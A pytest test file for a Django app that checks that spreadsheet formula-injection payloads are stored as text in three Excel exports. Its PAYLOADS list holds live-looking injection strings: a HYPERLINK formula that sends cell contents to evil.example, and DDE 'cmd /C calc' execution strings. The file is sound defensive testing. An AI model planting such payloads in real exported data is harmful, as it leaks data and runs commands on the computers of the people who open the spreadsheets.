"""Formula injection: text starting with = + - @ (or a tab) typed as a name, a title or a
comment is stored as text in every Excel export, never as a formula: the people export, the
unit's month workbook and the supervision report."""

import datetime
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from danhgia.reports.exports.documents import write_month_workbook
from tests.conftest import World
from tests.matrix.appeals import decided_sheet
from tests.security.hostile import poison

# The matrix's rows are fixed months: build them at tests.matrix.MATRIX_NOW.
pytestmark = pytest.mark.usefixtures("matrix_clock")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
OCTOBER = datetime.date(2026, 10, 1)


def assert_stored_as_text(content: bytes, payload: str) -> int:
    """Every cell holding the payload is text with a leading quote; return how many."""
    book = load_workbook(io.BytesIO(content))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and payload.strip() in cell.value:
                    assert cell.value.startswith("'"), (sheet.title, cell.coordinate, cell.value)
                    found += 1
    return found


@pytest.fixture
def hostile_world(world: World, request: Any) -> World:
    decided_sheet(world)  # the October sheet of `staff`, reviewed and decided
    poison(request.param, replace=True)
    return world


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_world", PAYLOADS, indirect=True)
def test_people_export(hostile_world: World, login: Any, request: Any) -> None:
    payload = request.node.callspec.params["hostile_world"]
    client = login(hostile_world.users["hr"])
    for kind in ("people", "units"):
        response = client.get(reverse("organisations:export_data", args=[kind]))
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
        assert assert_stored_as_text(content, payload) > 0, kind


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_world", PAYLOADS, indirect=True)
def test_month_workbook(hostile_world: World, request: Any) -> None:
    payload = request.node.callspec.params["hostile_world"]
    for unit in (hostile_world.province, hostile_world.dept):
        buffer = io.BytesIO()
        write_month_workbook(unit, OCTOBER, buffer)
        # Names, units and the sheet's texts all carry the payload.
        assert assert_stored_as_text(buffer.getvalue(), payload) >= 3


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_world", PAYLOADS, indirect=True)
def test_supervision_report(hostile_world: World, login: Any, request: Any) -> None:
    payload = request.node.callspec.params["hostile_world"]
    client = login(hostile_world.users["supervisor"])
    response = client.get(reverse("dashboards:supervision_xlsx"), {"thang": "2026-10"})
    assert response.status_code == 200
    assert assert_stored_as_text(response.content, payload) > 0
